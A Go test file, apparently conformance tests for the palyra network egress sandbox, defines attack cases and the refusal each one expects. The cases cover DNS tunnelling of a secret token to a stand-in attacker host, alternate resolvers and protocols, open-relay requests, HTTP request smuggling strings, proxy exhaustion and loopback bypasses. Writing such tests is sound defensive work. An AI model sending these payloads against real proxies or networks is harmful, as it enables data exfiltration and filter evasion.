package main

import (
	"fmt"
	"net/netip"
	"slices"
	"strings"

	"palyra/conformance/world"
)

// tunnelCases are 121: bytes that leave in questions to name servers.
func tunnelCases() []attackCase {
	t := reachTable{number: 121, name: "dns-tunnel"}
	ask := func(h *hosts, name, typ, over string, words ...string) scene {
		return scene{probe: "ask", args: append([]string{"name=" + hexed(name), "type=" + typ, "over=" + over}, words...), opt: options{egress: h.rule(hearPort)}, canary: h.askedToken()}
	}
	for _, v := range []struct{ how, typ string }{{"a", "1"}, {"aaaa", "28"}, {"txt", "16"}, {"null", "10"}, {"any", "255"}, {"mx", "15"}, {"cname", "5"}, {"srv", "33"}, {"https", "65"}, {"ptr", "12"}, {"private", "65399"}} {
		t.add("type-"+v.how, "send a secret as a label of a name that no rule has: a question of type "+v.typ, "", []string{"NXDOMAIN"}, func(h *hosts) (scene, error) {
			return ask(h, h.token+"."+h.evil, v.typ, "udp"), nil
		})
	}
	t.add("long", "… with labels as long as there are", "", []string{"NXDOMAIN"}, func(h *hosts) (scene, error) {
		fill := strings.Repeat("x", 63)
		return ask(h, fill+"."+h.token+"."+fill+"."+h.evil, "1", "udp"), nil
	})
	t.add("many", "… and 300 names of them", "", []string{"NXDOMAIN"}, func(h *hosts) (scene, error) {
		return ask(h, h.token+"."+h.evil, "1", "udp", "times=300"), nil
	})
	t.add("pipelined", "… 60 at once in a connection", "", []string{"NXDOMAIN"}, func(h *hosts) (scene, error) {
		return ask(h, h.token+"."+h.evil, "1", "tcp", "times=60"), nil
	})
	t.add("class", "… of class CHAOS", "", []string{"DNSREFUSED"}, func(h *hosts) (scene, error) {
		return ask(h, h.token+"."+h.evil, "16", "udp", "class=3"), nil
	})
	for _, v := range []struct{ how, op string }{{"status", "2"}, {"notify", "4"}, {"update", "5"}} {
		t.add(v.how, "… of operation "+v.op, "", []string{"NOTIMP"}, func(h *hosts) (scene, error) {
			return ask(h, h.token+"."+h.evil, "1", "udp", "operation="+v.op), nil
		})
	}
	for _, v := range []struct{ how, typ string }{{"txt", "16"}, {"null", "10"}, {"any", "255"}} {
		t.add("allowed-"+v.how, "have an allowed name's server asked for type "+v.typ+", whose answers hold anything", "", []string{"NODATA"}, func(h *hosts) (scene, error) {
			sc := ask(h, h.ok(), v.typ, "udp")
			sc.canary = h.asked(func(q world.Query) bool {
				return strings.EqualFold(q.Name, h.ok()) && q.Type != "A" && q.Type != "AAAA"
			})
			return sc, nil
		})
	}
	heard := func(h *hosts, sc scene) scene {
		sc.canary = h.elsewhere()
		return sc
	}
	t.add("option", "send a secret in an option of a question for an allowed name", "OPEN: the name's address, and the question wasn't passed on", []string{"OPEN"}, func(h *hosts) (scene, error) {
		return heard(h, ask(h, h.ok(), "1", "udp", "option="+h.token)), nil
	})
	t.add("behind", "… behind the question", "", []string{"FORMERR"}, func(h *hosts) (scene, error) {
		return heard(h, ask(h, h.ok(), "1", "udp", "behind="+h.token)), nil
	})
	t.add("case", "… in the case of its letters", "OPEN: the name's address, asked for in lower case", []string{"OPEN"}, func(h *hosts) (scene, error) {
		name := strings.ToUpper(h.ok()[:12]) + h.ok()[12:]
		sc := ask(h, name, "1", "udp")
		sc.canary = h.asked(func(q world.Query) bool { return q.Name == name })
		return sc, nil
	})
	return t.out
}

// resolverCases are 122: other name servers than the cell's.
func resolverCases() []attackCase {
	t := reachTable{number: 122, name: "other-resolver"}
	for _, v := range []struct{ how, attack, over, server, says string }{
		{"udp", "ask another name server: the host's, over UDP", "udp", world.Resolver + ":53", "ENETUNREACH"},
		{"tcp", "… over TCP", "tcp", world.Resolver + ":53", "ENETUNREACH"},
		{"tcp6", "… at an IPv6 address", "tcp", "[" + world.Web6 + "]:53", "ENETUNREACH"},
		{"https-address", "… over HTTP (RFC 8484), by its address", "http", world.Web + ":80", "ENETUNREACH"},
		{"https-name", "… by a name that no rule has", "http", "", "NXDOMAIN"},
		{"port", "… at the cell's resolver on another port", "udp", "198.18.0.1:5353", "ECONNREFUSED"},
	} {
		t.add(v.how, v.attack, "", []string{v.says}, func(h *hosts) (scene, error) {
			server := v.server
			if server == "" {
				server = h.evil + ":80"
			}
			if v.how == "port" && !h.s.inside {
				server = world.Resolver + ":53"
			}
			return scene{probe: "ask", args: []string{"name=" + hexed(h.token+"."+h.evil), "type=1", "over=" + v.over, "server=" + server},
				opt: options{egress: h.rule("80")}, canary: h.askedToken()}, nil
		})
	}
	return t.out
}

// packetCases are 123: other protocols than TCP, and other ways to begin that.
func packetCases() []attackCase {
	t := reachTable{number: 123, name: "no-tcp"}
	for _, v := range []struct {
		how, attack, host string
		says              []string
	}{
		{"udp", "send a packet to a host: UDP", evil, []string{"ENETUNREACH"}},
		{"icmp", "… an echo request", evil, []string{"EPROTONOSUPPORT"}},
		{"raw", "… an echo request of a raw socket", evil, noFamily},
		{"sctp", "… SCTP", evil, append([]string{"EPROTONOSUPPORT", "ESOCKTNOSUPPORT"}, noFamily...)},
	} {
		t.add(v.how, v.attack, "", v.says, func(h *hosts) (scene, error) {
			return scene{probe: "datagram", args: []string{"how=" + v.how, "host=" + hexed(v.host), "port=443", "token=" + h.token},
				opt: options{egress: h.rule("443")}, canary: h.elsewhere()}, nil
		})
	}
	t.add("quic", "… UDP to the port of an allowed name", "nothing listens there: QUIC falls back to TCP", []string{"ECONNREFUSED"}, func(h *hosts) (scene, error) {
		return scene{probe: "datagram", args: []string{"how=udp", "host=" + hexed(h.ok()), "port=443", "token=" + h.token},
			opt: options{egress: h.rule("443")}, canary: h.elsewhere()}, nil
	})
	for _, v := range []struct{ how, attack string }{{"mptcp", "connect with MPTCP to a host that no rule names"}, {"fastopen", "… with MSG_FASTOPEN"}} {
		t.add(v.how, v.attack, "", []string{"ENETUNREACH", "EPROTONOSUPPORT", "ENOTSUP"}, func(h *hosts) (scene, error) {
			return scene{probe: "tcp", args: []string{"ip=4", "to=" + evil, "port=" + hearPort, "how=" + v.how, "token=" + h.token},
				opt: options{egress: h.rule(hearPort)}, canary: h.elsewhere()}, nil
		})
	}
	return t.out
}

// callCases are 124: what is another call's.
func callCases() []attackCase {
	t := reachTable{number: 124, name: "other-call-hosts"}
	t.add("address", "connect to the address that a name had in an earlier call", "each call's addresses begin anew, and are bound for names that were asked for", []string{"ECONNREFUSED"}, func(h *hosts) (scene, error) {
		at := "198.18.1.0"
		if !h.s.inside {
			at = world.Web
		}
		sc := h.arrive("literal", at, hearPort)
		sc.canary = h.elsewhere()
		return sc, nil
	})
	t.add("cell-address6", "… as an IPv6 address", "", []string{"ECONNREFUSED", "ENETUNREACH"}, func(h *hosts) (scene, error) {
		at := "fd70:616c:7972::c612:100"
		if !h.s.inside {
			at = world.Web6
		}
		sc := h.arrive("literal", at, hearPort)
		sc.canary = h.elsewhere()
		return sc, nil
	})
	for _, w := range []struct{ via, says string }{{"dns", "NXDOMAIN"}, {"connect", "HTTP403"}, {"socks", "SOCKS2"}, {"literal", "ECONNREFUSED"}} {
		reach := func(h *hosts) (scene, error) {
			theirs := "their." + h.s.nonce + ".other.example"
			h.w.Set(theirs, world.Addrs(evil))
			var sc scene
			var err error
			switch host := theirs; w.via {
			case "dns":
				sc = h.arrive("dns", host, hearPort)
			case "literal":
				at := "198.18.1.0"
				if !h.s.inside {
					at = evil
				}
				sc = h.arrive("literal", at, hearPort)
			default:
				sc, err = h.through(w.via, host, hearPort, "allow="+theirs)
			}
			sc.opt.others = []string{theirs + ":" + hearPort}
			sc.opt.beside = []string{neighbour, "host=" + hexed(theirs), "port=" + hearPort}
			return sc, err
		}
		t.add("beside-"+w.via, "reach by "+w.via+" the host of a call that runs beside it over the same palyra-egress", "", []string{w.says}, reach)
		t.add("session-"+w.via, "… from the network of the session that both calls are of", "neither the call with hosts nor palyra-egress is in it", []string{"ENETUNREACH"}, func(h *hosts) (scene, error) {
			sc, err := reach(h)
			sc.opt.egress = nil
			return sc, err
		})
	}
	t.add("session-server", "connect to a server of the session, in the network that its calls share", "", []string{"ECONNREFUSED"}, func(h *hosts) (scene, error) {
		c := h.s.sitter()
		if !h.s.inside {
			if err := c.onHost(true); err != nil {
				return scene{}, err
			}
		}
		return scene{probe: "tcp", args: []string{"ip=4", "how=connect", "port=" + c.port, "token=" + h.s.nonce}, canary: c.heard,
			opt: options{egress: h.rule(hearPort), beside: c.words}}, nil
	})
	return t.out
}

// relayCases are 125: the proxies as relays for more than CONNECT to what is allowed.
func relayCases() []attackCase {
	t := reachTable{number: 125, name: "open-relay"}
	for _, w := range []struct{ via, says string }{{"connect", "HTTP403"}, {"socks", "SOCKS2"}} {
		t.add(w.via, "reach by "+w.via+" a host that no rule names", "", []string{w.says}, func(h *hosts) (scene, error) {
			return h.through(w.via, h.evil, hearPort, "deny=-")
		})
		t.add("port-"+w.via, "… an allowed host at another port", "", []string{w.says}, func(h *hosts) (scene, error) {
			sc, err := h.through(w.via, h.ok(), hearPort, "deny=-")
			sc.opt.egress, sc.canary = h.rule("443"), h.elsewhere()
			return sc, err
		})
	}
	t.add("port-dns", "… by dns", "", []string{"ECONNREFUSED"}, func(h *hosts) (scene, error) {
		sc := h.arrive("dns", h.ok(), hearPort)
		sc.opt.egress, sc.canary = h.rule("443"), h.elsewhere()
		return sc, nil
	})
	for _, v := range []struct {
		how, via, attack, says string
		bytes                  func(h *hosts) string
	}{
		{"get", "connect", "have a proxy pass on a request: GET of a URL", "HTTP501", func(h *hosts) string {
			return "GET http://" + h.evil + ":13/" + h.token + " HTTP/1.1\r\nHost: " + h.evil + "\r\n\r\n"
		}},
		{"post", "connect", "… POST", "HTTP501", func(h *hosts) string {
			return "POST http://" + h.evil + ":13/ HTTP/1.1\r\nHost: " + h.evil + "\r\nContent-Length: 40\r\n\r\n" + h.token
		}},
		{"get-allowed", "connect", "… GET of an allowed host's URL", "HTTP501", func(h *hosts) string {
			return "GET http://" + h.ok() + ":13/" + h.token + " HTTP/1.1\r\nHost: " + h.ok() + "\r\n\r\n"
		}},
		{"host-header", "connect", "… of a path, with the host in a header", "HTTP405", func(h *hosts) string {
			return "GET /" + h.token + " HTTP/1.1\r\nHost: " + h.evil + ":13\r\n\r\n"
		}},
		{"socks4", "socks", "… SOCKS4", "SOCKS4-91", func(h *hosts) string {
			a := netip.MustParseAddr(evil).As4()
			return "\x04\x01\x00\x0d" + string(a[:]) + "\x00"
		}},
		{"socks4a", "socks", "… SOCKS4a, with a name", "SOCKS4-91", func(h *hosts) string {
			return "\x04\x01\x00\x0d\x00\x00\x00\x01\x00" + h.evil + "\x00"
		}},
	} {
		t.add(v.how, v.attack, "", []string{v.says}, func(h *hosts) (scene, error) {
			sc, err := h.raw(v.via, v.bytes(h), "deny=-")
			sc.canary = h.elsewhere()
			return sc, err
		})
	}
	for _, v := range []struct {
		how, attack string
		command     byte
	}{{"bind", "have SOCKS5 listen for it (BIND)", 2}, {"associate", "have SOCKS5 pass packets (UDP ASSOCIATE)", 3}} {
		t.add("socks-"+v.how, v.attack, "", []string{"SOCKS7"}, func(h *hosts) (scene, error) {
			at, err := h.proxy("socks", "deny=-")
			sc := h.arrive("socks", h.ok(), hearPort, "proxy="+at, fmt.Sprintf("command=%d", v.command))
			sc.canary = nil // the host is allowed, the command isn't
			return sc, err
		})
	}
	return t.out
}

// smuggleCases are 126: two requests where a proxy may see one.
func smuggleCases() []attackCase {
	t := reachTable{number: 126, name: "request-smuggling"}
	for _, v := range []struct {
		how, attack string
		says        string
		bytes       func(ok, evil string) string
	}{
		{"length", "hide a request from the judging side of a proxy: in a body of known length", "HTTP400", func(ok, evil string) string {
			return "CONNECT " + ok + " HTTP/1.1\r\nContent-Length: 60\r\n\r\nCONNECT " + evil + " HTTP/1.1\r\n\r\n"
		}},
		{"chunked", "… in a chunked body", "HTTP400", func(ok, evil string) string {
			return "CONNECT " + ok + " HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nCONNECT " + evil + " HTTP/1.1\r\n\r\n"
		}},
		{"both", "… with both kinds of length", "HTTP400", func(ok, evil string) string {
			return "CONNECT " + ok + " HTTP/1.1\r\nContent-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nCONNECT " + evil + " HTTP/1.1\r\n\r\n"
		}},
		{"bare-lf", "… behind a line that ends in LF alone", "HTTP400", func(ok, evil string) string {
			return "CONNECT " + ok + " HTTP/1.1\nHost: x\n\nCONNECT " + evil + " HTTP/1.1\r\n\r\n"
		}},
		{"bare-cr", "… behind a CR alone", "HTTP400", func(ok, evil string) string {
			return "CONNECT " + ok + " HTTP/1.1\r\nX: y\rCONNECT " + evil + " HTTP/1.1\r\n\r\n"
		}},
		{"fold", "… in a folded header", "HTTP400", func(ok, evil string) string {
			return "CONNECT " + ok + " HTTP/1.1\r\nX: y\r\n CONNECT " + evil + " HTTP/1.1\r\n\r\n"
		}},
		{"space", "… in the target, behind a space", "HTTP400", func(ok, evil string) string {
			return "CONNECT " + ok + " CONNECT " + evil + " HTTP/1.1\r\n\r\n"
		}},
		{"old", "… without a version", "HTTP400", func(ok, evil string) string {
			return "CONNECT " + ok + "\r\n\r\nCONNECT " + evil + " HTTP/1.1\r\n\r\n"
		}},
		{"long", "… behind a head that is too long", "HTTP431", func(ok, evil string) string {
			return "CONNECT " + ok + " HTTP/1.1\r\nX: " + strings.Repeat("y", 8<<10) + "\r\nCONNECT " + evil + " HTTP/1.1\r\n\r\n"
		}},
		{"space-header", "… behind a header with a space in its name", "HTTP400", func(ok, evil string) string {
			return "CONNECT " + ok + " HTTP/1.1\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\nCONNECT " + evil + " HTTP/1.1\r\n\r\n"
		}},
	} {
		t.add(v.how, v.attack, "", []string{v.says}, func(h *hosts) (scene, error) {
			return h.raw("connect", v.bytes(h.ok()+":13", h.evil+":13"), "allow="+h.suffix)
		})
	}
	for _, v := range []struct {
		how, attack string
		bytes       func(ok, evil string) string
	}{
		{"pipelined", "… right behind the first", func(ok, evil string) string {
			return "CONNECT " + ok + " HTTP/1.1\r\n\r\nCONNECT " + evil + " HTTP/1.1\r\n\r\n"
		}},
		{"header", "… in a header", func(ok, evil string) string {
			return "CONNECT " + ok + " HTTP/1.1\r\nX: CONNECT " + evil + " HTTP/1.1\r\n\r\n"
		}},
	} {
		t.add(v.how, v.attack, "OPEN: all of it went to the host that is allowed", []string{"OPEN"}, func(h *hosts) (scene, error) {
			return h.raw("connect", v.bytes(h.ok()+":13", h.evil+":13"), "allow="+h.suffix)
		})
	}
	return t.out
}

// starveCases are 127: a call that takes what palyra-egress has, while another one works.
func starveCases() []attackCase {
	t := reachTable{number: 127, name: "egress-exhaustion"}
	for _, v := range []struct{ how, attack string }{
		{"slowloris", "leave no connection of the proxy to another call: heads that come byte by byte"},
		{"silent", "… connections that say nothing"}, {"tunnels", "… tunnels that stay open"}, {"dead", "… tunnels to a host that doesn't answer"},
	} {
		t.add(v.how, v.attack, "OPEN: the other call reached its host all the while", []string{"OPEN"}, func(h *hosts) (scene, error) {
			dead, theirs := "dead."+h.suffix, "their."+h.s.nonce+".other.example"
			h.w.Set(dead, world.Addrs(world.Dead))
			h.w.Set(theirs, world.Addrs(evil))
			works := []string{neighbour, "host=" + hexed(theirs), "port=" + hearPort}
			at := httpIn
			starved := func(o *outcome) (bool, string) {
				i := slices.IndexFunc(o.lines, func(r result) bool { return r.Case == neighbour && r.Outcome == "STARVED" })
				if i >= 0 {
					return true, "the other call starved: " + o.lines[i].Detail
				}
				return false, ""
			}
			if !h.s.inside {
				_, addr, err := h.s.handInWorld("naive", "deny=-", "room=64")
				if err != nil {
					return scene{}, err
				}
				at = addr
				other, _, err := h.s.handInWorld(works[0], append(works[1:], "proxy="+at)...)
				if err != nil {
					return scene{}, err
				}
				l := &listenerOf{s: h.s}
				go l.hear(other.rest())
				starved = l.heard("STARVED")
			}
			sc := scene{probe: "starve", args: []string{"how=" + v.how, "n=300", "proxy=" + at, "host=" + hexed(h.ok()), "dead=" + hexed(dead), "port=" + hearPort}, canary: starved}
			sc.opt = options{egress: h.rule(hearPort), others: []string{theirs + ":" + hearPort}, beside: works}
			return sc, nil
		})
		t.out[len(t.out)-1].alone = true
	}
	return t.out
}

// lateCases are 128: what is left of a call reaches its host when the call is over.
func lateCases() []attackCase {
	t := reachTable{number: 128, name: "after-the-end"}
	for _, v := range []struct{ how, attack string }{{"address", "reach a host by a process that outlives the call"}, {"connection", "… on a connection of the call's"}} {
		t.add(v.how, v.attack, "OPEN: the process was left, and ended with the call", []string{"OPEN"}, func(h *hosts) (scene, error) {
			sc := scene{probe: "late", args: []string{"how=" + v.how, "host=" + hexed(h.ok()), "port=" + hearPort, "token=" + h.token}, opt: options{egress: h.rule(hearPort)}}
			sc.canary = h.afterwards()
			return sc, nil
		})
	}
	return t.out
}

// serviceCases are 129: the host's own services, by the proxies.
func serviceCases() []attackCase {
	t := reachTable{number: 129, name: "host-services"}
	for _, v := range []struct{ how, host, connect string }{
		{"loopback", "127.0.0.1", "HTTP403"}, {"loopback-short", "127.1", "HTTP400"}, {"loopback-decimal", "2130706433", "HTTP400"},
		{"this-host", "0.0.0.0", "HTTP403"}, {"mapped", "[::ffff:127.0.0.1]", "HTTP400"}, {"other", "127.9.9.9", "HTTP403"},
	} {
		for _, via := range []string{"connect", "socks"} {
			says := v.connect
			if via == "socks" {
				says = "SOCKS2"
			}
			t.add(v.how+"-"+via, "reach by "+via+" a service on the host's loopback interface: "+v.host, "", []string{says}, func(h *hosts) (scene, error) {
				port, heard, err := h.service()
				if err != nil {
					return scene{}, err
				}
				sc, err := h.through(via, v.host, port, "deny=-")
				sc.opt.egress, sc.canary = h.rule(port), heard
				return sc, err
			})
		}
	}
	return t.out
}
